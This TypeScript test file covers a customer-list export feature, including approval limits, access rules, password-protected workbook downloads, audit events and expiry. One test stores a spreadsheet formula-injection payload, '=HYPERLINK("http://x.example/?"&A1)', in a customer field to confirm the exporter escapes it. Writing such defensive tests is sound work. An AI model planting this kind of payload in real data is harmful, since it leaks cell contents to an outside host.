import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import { actAs } from "#server/core/door/index.ts";
import { listEvents, matchEvents, type RecordedEvent } from "#server/core/ledger/index.ts";
import { liftMeasureAs } from "#server/modules/measures/index.ts";
import { sentinelValues } from "#server/modules/sample/index.ts";
import { readWorkbook } from "#tests/support/read-workbook.ts";
import { request, type Reply } from "#tests/support/request.ts";
import { openSeededHouse, type Caller, type SeededHouse } from "#tests/support/seeded-house.ts";
import { takeMeasure } from "#tests/support/take-measure.ts";
import { dayAfter, dayInTokyo } from "./days.ts";
import { causes, eraseListRows } from "./index.ts";

let house: SeededHouse;
let sales: Caller;
let colleague: Caller;
let manager: Caller;
let officer: Caller;
let near: number[];
let far: number;
const fields = ["fullName", "mobile", "address"];

beforeAll(async () => {
  house = await openSeededHouse([["sales"], ["sales"], ["manager"], ["privacy-officer"]]);
  [sales, colleague, manager, officer] = house.callers as [Caller, Caller, Caller, Caller];
  near = house.customerNos.filter((no) => house.cellOf.get(no) === house.cells.get("near")?.cellNo);
  far = house.customerNos.at(-1) as number;
  await send(officer, "PUT", "/api/list-policy", { freePersons: 3, days: 30 });
});
afterAll(() => house.close());

const send = (caller: Caller, method: string, url: string, body?: unknown): Promise<Reply> => request(house, { method, url, cookie: caller.cookie, body });
const inDays = (days: number): string => dayAfter(dayInTokyo(house.open.storehouse.clock()), days);
const make = (caller: Caller, customerNos: number[], given: Record<string, unknown> = {}): Promise<Reply> =>
  send(caller, "POST", "/api/lists", { name: "秋の案内状", purpose: "delivery", fields, customerNos, endsOn: inDays(7), ...given });

/** A list of the caller whatever the limit says: approved by the other approver where it must be. */
async function readyList(caller: Caller, customerNos: number[], given: Record<string, unknown> = {}): Promise<number> {
  const made = await make(caller, customerNos, given);
  expect(made.body).toMatchObject({ listNo: expect.any(Number) });
  if (made.body["kind"] === "awaits-approval") {
    const approver = caller === manager ? officer : manager;
    expect((await send(approver, "POST", `/api/approvals/${String(made.body["requestNo"])}/decide`, { decision: "approve" })).status).toBe(200);
  }
  return made.body["listNo"] as number;
}

async function draw(caller: Caller, listNo: number): Promise<{ reply: Reply; sheets: Map<string, string[][]>; event: RecordedEvent | undefined }> {
  const reply = await send(caller, "POST", `/api/lists/${listNo}/download`, {});
  expect(reply.status).toBe(200);
  const { body } = await send(caller, "POST", `/api/lists/${listNo}/password`, {});
  const file = reply.bytes.subarray(reply.bytes.indexOf(Buffer.from([0xd0, 0xcf, 0x11, 0xe0])));
  const { events } = await listEvents(house.database.owner, { limit: 20, types: ["list.downloaded"] });
  return { reply, sheets: await readWorkbook(file, body["password"] as string), event: events.find((event) => event.requestId === reply.requestId) };
}

test("within the limit a list is ready at once, and its file holds exactly what its event says", async () => {
  const members = near.slice(0, 3);
  const made = await make(sales, members);
  expect(made.body).toMatchObject({ kind: "ready", requestNo: null, persons: 3, leftOut: 0 });
  const { sheets, event, reply } = await draw(sales, made.body["listNo"] as number);
  const values = (no: number): Record<string, string> => sentinelValues("customer", house.customerIndex.get(no) as number) as Record<string, string>;
  expect(sheets.get("顧客")).toEqual([
    ["顧客No", "氏名", "携帯", "住所"],
    ...members.map((no) => [String(no), values(no)["fullName"], values(no)["mobile"], values(no)["address"]]),
  ]);
  expect(
    sheets
      .get("このリストについて")
      ?.map((row) => row.join(" "))
      .join("\n"),
  ).toMatch(/社外秘[\s\S]*秋の案内状[\s\S]*配送・納品[\s\S]*3人/);
  expect(event).toMatchObject({ purpose: "delivery", facts: { listNo: made.body["listNo"], persons: 3, leftOut: 0 } });
  expect(event?.releases.filter((release) => release.kind === "customer")).toEqual([
    {
      kind: "customer",
      numbers: members,
      fields: [
        [1, 2],
        [8, 2],
        [11, 2],
      ],
    },
  ]);
  // Without the password it says nothing: no name stands in its bytes.
  expect(reply.bytes.includes(Buffer.from(values(members[0] as number)["fullName"] as string))).toBe(false);
});

test("an opened list goes out whole, by its handle, to who opened it, and only if it still finds as many", async () => {
  const opened = await send(sales, "POST", "/api/customers/views", { filters: { ownerNo: sales.accountNo } });
  const persons = Number(opened.body["total"]);
  const viewId = opened.body["viewId"];
  expect(persons).toBeGreaterThan(0);
  const whole = { customerNos: undefined, viewId };
  const made = await make(sales, [], { ...whole, expected: { persons } });
  expect(made.body).toMatchObject({ persons, leftOut: 0 });
  const { rows } = await house.database.owner.query<{ no: number }>("select customer_no as no from list_members where list_no = $1 order by 1", [
    made.body["listNo"],
  ]);
  expect(rows.map(({ no }) => no)).toEqual(house.customerNos.filter((no) => house.ownerOf.get(no) === sales.accountNo).toSorted((a, b) => a - b));
  expect((await make(sales, [], { ...whole, expected: { persons: persons + 1 } })).body).toMatchObject({ code: "conflict", facts: { persons } });
  expect((await make(colleague, [], { ...whole, expected: { persons } })).status).toBe(404);
  expect((await make(sales, near.slice(0, 1), { viewId })).status).toBe(400);
  expect((await make(sales, [], { customerNos: undefined })).status).toBe(400);
});

test("many small lists are one large one: what passes the limit of a day waits for a second person", async () => {
  const again = await make(sales, near.slice(0, 2));
  expect(again.body["kind"]).toBe("ready");
  // What the dialog says beforehand: the same persons count once, and nobody else's lists count.
  expect((await send(sales, "GET", "/api/list-policy")).body).toMatchObject({ freePersons: 3, taken: 3, takenNos: near.slice(0, 3) });
  expect((await send(colleague, "GET", "/api/list-policy")).body).toMatchObject({ taken: 0, takenNos: [] });
  const beyond = await make(sales, near.slice(3, 4));
  expect(beyond.body).toMatchObject({ kind: "awaits-approval", persons: 1 });
  const listNo = beyond.body["listNo"] as number;
  expect((await send(sales, "POST", `/api/lists/${listNo}/download`, {})).body["code"]).toBe("awaits-approval");
  expect((await send(sales, "POST", `/api/lists/${listNo}/password`, {})).body["code"]).toBe("awaits-approval");
  const waiting = (await send(manager, "GET", "/api/approvals")).body["waiting"] as Record<string, unknown>[];
  expect(waiting.at(-1)).toMatchObject({ kind: "list-export", persons: 1, fields, purpose: "delivery", destination: "inside", sample: near.slice(3, 4) });
  expect((await send(manager, "POST", `/api/approvals/${String(beyond.body["requestNo"])}/decide`, { decision: "approve" })).status).toBe(200);
  expect((await draw(sales, listNo)).sheets.get("顧客")).toHaveLength(2);
});

test("a sensitive field always waits, and whoever asked does not judge it, manager or not", async () => {
  const made = await make(manager, near.slice(0, 1), { fields: ["fullName", "bankAccount"] });
  expect(made.body["kind"]).toBe("awaits-approval");
  const own = await send(manager, "POST", `/api/approvals/${String(made.body["requestNo"])}/decide`, { decision: "approve" });
  expect(own.body).toMatchObject({ code: "not-permitted", facts: { reason: "own-request" } });
  expect(
    (await send(officer, "POST", `/api/approvals/${String(made.body["requestNo"])}/decide`, { decision: "refuse", comment: "口座は不要です" })).status,
  ).toBe(200);
  const refused = await send(manager, "POST", `/api/lists/${String(made.body["listNo"])}/download`, {});
  expect(refused.body).toMatchObject({ code: "list-closed", facts: { state: "refused" } });
});

test("whoever does not see every person of a list is neither asked nor able to judge it", async () => {
  // The seller owns a customer in another department than the manager's.
  await house.database.owner.query("update customers set owner_no = $1 where customer_no = $2", [colleague.accountNo, far]);
  const made = await make(colleague, [...near.slice(0, 3), far], { endsOn: inDays(1) });
  expect(made.body).toMatchObject({ kind: "awaits-approval", persons: 4 });
  const requestNo = made.body["requestNo"] as number;
  const seen = (await send(manager, "GET", "/api/approvals")).body["waiting"] as { requestNo: number }[];
  expect(seen.map((each) => each.requestNo)).not.toContain(requestNo);
  const judged = await send(manager, "POST", `/api/approvals/${requestNo}/decide`, { decision: "approve" });
  expect(judged.body).toMatchObject({ code: "not-found" });
  expect((await send(officer, "POST", `/api/approvals/${requestNo}/decide`, { decision: "approve" })).status).toBe(200);
});

test("a list holds only persons whom its maker sees, and fields that the maker reads", async () => {
  const foreign = await make(sales, [far]);
  expect(foreign.body).toMatchObject({ code: "invalid-input", facts: { field: "customerNos" } });
  expect((await make(sales, near.slice(0, 1), { fields: ["bankAccount"] })).body).toMatchObject({ code: "not-permitted", facts: { field: "bankAccount" } });
  expect((await make(sales, near.slice(0, 1), { purpose: "audit" })).body["code"]).toBe("purpose-needed");
  expect((await make(sales, near.slice(0, 1), { endsOn: inDays(31) })).body).toMatchObject({ code: "invalid-input", facts: { field: "endsOn", days: 30 } });
  expect((await make(officer, near.slice(0, 1))).body["code"]).toBe("not-permitted");
});

test("a colleague's list is not there, neither its file nor its password; an approver sees it in the register without either", async () => {
  const listNo = await readyList(sales, near.slice(0, 1));
  for (const [method, url] of [
    ["GET", `/api/lists/${listNo}`],
    ["POST", `/api/lists/${listNo}/download`],
    ["POST", `/api/lists/${listNo}/password`],
    ["POST", `/api/lists/${listNo}/dispose`],
  ] as const) {
    expect((await send(colleague, method, url, method === "GET" ? undefined : {})).body["code"]).toBe("not-found");
  }
  const register = (await send(manager, "GET", "/api/lists")).body["lists"] as Record<string, unknown>[];
  expect(register.find((row) => row["listNo"] === listNo)).toMatchObject({ name: "秋の案内状", ownerNo: sales.accountNo, isOwn: false });
  expect((await send(manager, "POST", `/api/lists/${listNo}/password`, {})).body["code"]).toBe("not-found");
  expect((await send(colleague, "GET", "/api/lists")).body["lists"]).not.toContainEqual(expect.objectContaining({ listNo }));
});

test("downloads are counted from the ledger, and the cause of an incident leads to them", async () => {
  const listNo = await readyList(sales, near.slice(0, 2));
  await draw(sales, listNo);
  await draw(sales, listNo);
  expect((await send(sales, "GET", `/api/lists/${listNo}`)).body).toMatchObject({ downloads: 2, lastDownloadAt: expect.any(String) });
  const answer = await causes[0]?.resolve({
    query: house.database.owner,
    policy: house.open.storehouse.policy!,
    values: [listNo],
    keys: "unknown",
    from: undefined,
    to: undefined,
    asOf: { eventNo: Number.MAX_SAFE_INTEGER, at: new Date() },
  });
  const found = await matchEvents(house.database.app, answer!.released[0]!.filter);
  const { events } = await listEvents(house.database.owner, { eventNos: [...found.numbers()], limit: 50 });
  expect(events.map((event) => event.type).toSorted()).toEqual([
    "list.created",
    "list.downloaded",
    "list.downloaded",
    "list.password-shown",
    "list.password-shown",
  ]);
});

test("what would be a formula leaves as a text that is none, an empty value as an empty cell", async () => {
  const customerNo = near[0] as number;
  const version = (await send(manager, "GET", `/api/customers/${customerNo}`)).body["version"];
  await send(manager, "PATCH", `/api/customers/${customerNo}`, {
    version,
    values: { notes: '=HYPERLINK("http://x.example/?"&A1)', fax: null, jobTitle: "+役員" },
  });
  const { sheets } = await draw(sales, await readyList(sales, [customerNo], { fields: ["notes", "fax", "jobTitle"] }));
  expect(sheets.get("顧客")?.[1]).toEqual([String(customerNo), `'=HYPERLINK("http://x.example/?"&A1)`, "", "'+役員"]);
});

test("a person in the trash or erased is left out of the file, and the file says how many are missing", async () => {
  const [first, second, third] = near.slice(-3) as [number, number, number];
  const listNo = await readyList(manager, [first, second, third]);
  const version = (await send(manager, "GET", `/api/customers/${first}`)).body["version"];
  expect((await send(manager, "POST", `/api/customers/${first}/trash`, { version })).status).toBe(200);
  await actAs(house.open.storehouse, "system", "customer.erased", randomUUID(), async (context) => {
    await eraseListRows(context, second);
    await context.db.query("delete from customer_search where customer_no = $1", [second]);
    await context.db.query("delete from customers where customer_no = $1", [second]);
  });
  const { sheets, event } = await draw(manager, listNo);
  expect(
    sheets
      .get("顧客")
      ?.slice(1)
      .map((row) => row[0]),
  ).toEqual([String(third)]);
  expect(event?.facts).toMatchObject({ leftOut: 2 });
  const { rows } = await house.database.owner.query("select erased from lists where list_no = $1", [listNo]);
  expect(rows).toEqual([{ erased: 1 }]);
});

test("a list whose last day is over, or that was disposed of, is drawn no more; its register remains", async () => {
  const ended = await readyList(sales, near.slice(0, 1));
  await house.database.owner.query("update lists set ends_on = $2 where list_no = $1", [ended, inDays(-1)]);
  const refused = await send(sales, "POST", `/api/lists/${ended}/download`, {});
  expect(refused.body).toMatchObject({ code: "list-closed", facts: { state: "ended" } });
  expect((await send(sales, "GET", `/api/lists/${ended}`)).body["state"]).toBe("ended");
  expect((await send(sales, "POST", `/api/lists/${ended}/dispose`, {})).body).toEqual({ kind: "disposed" });
  expect((await send(sales, "GET", `/api/lists/${ended}`)).body).toMatchObject({ state: "disposed", disposedAt: expect.any(String) });
  expect((await send(sales, "POST", `/api/lists/${ended}/dispose`, {})).body).toMatchObject({ code: "list-closed" });
});

test("a list that a hold withdrew is drawn no more after it; one that is made afterwards is", async () => {
  const before = await readyList(sales, near.slice(0, 1));
  const { storehouse } = house.open;
  const hold = await takeMeasure(storehouse, "hold-exports");
  expect((await send(sales, "POST", `/api/lists/${before}/download`, {})).body["code"]).toBe("exports-held");
  await takeMeasure(storehouse, "withdraw-lists");
  await actAs(storehouse, "console", "measure.lifted", randomUUID(), (context) => liftMeasureAs(context, hold));
  expect((await send(sales, "POST", `/api/lists/${before}/download`, {})).body).toMatchObject({ code: "list-closed", facts: { state: "withdrawn" } });
  expect((await send(sales, "GET", `/api/lists/${before}`)).body["state"]).toBe("withdrawn");
  expect((await draw(sales, await readyList(sales, near.slice(0, 1)))).event?.facts).toMatchObject({ persons: 1 });
  expect((await send(sales, "POST", `/api/lists/${before}/dispose`, {})).body).toEqual({ kind: "disposed" });
});

test("name, handler and password of a list stand sealed", async () => {
  const listNo = await readyList(sales, near.slice(0, 1), { destination: "handler", handler: "株式会社どこか印刷" });
  const { password } = (await send(sales, "POST", `/api/lists/${listNo}/password`, {})).body as { password: string };
  expect(password).toMatch(/^([a-z2-9]{4}-){4}[a-z2-9]{4}$/);
  const { rows } = await house.database.owner.query<{ row: string }>("select lists::text as row from lists");
  const text = rows.map((row) => row.row).join();
  for (const word of ["秋の案内状", "どこか印刷", password]) {
    expect(text).not.toContain(word);
    expect(text).not.toContain(Buffer.from(word).toString("hex"));
  }
});
